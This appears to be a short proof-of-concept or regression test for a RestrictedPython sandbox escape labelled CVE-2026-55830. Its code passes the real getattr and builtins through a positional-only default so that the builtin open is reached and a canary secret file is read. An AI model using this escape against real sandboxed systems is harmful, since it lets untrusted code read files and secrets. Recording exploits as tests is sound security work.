# source: RestrictedPython CVE-2026-55830
# effect: secret

def outer(_getattr_, __builtins__=__builtins__, /):
    return _getattr_(__builtins__, "open")("/tmp/canary/secret").read()


print(outer(getattr))
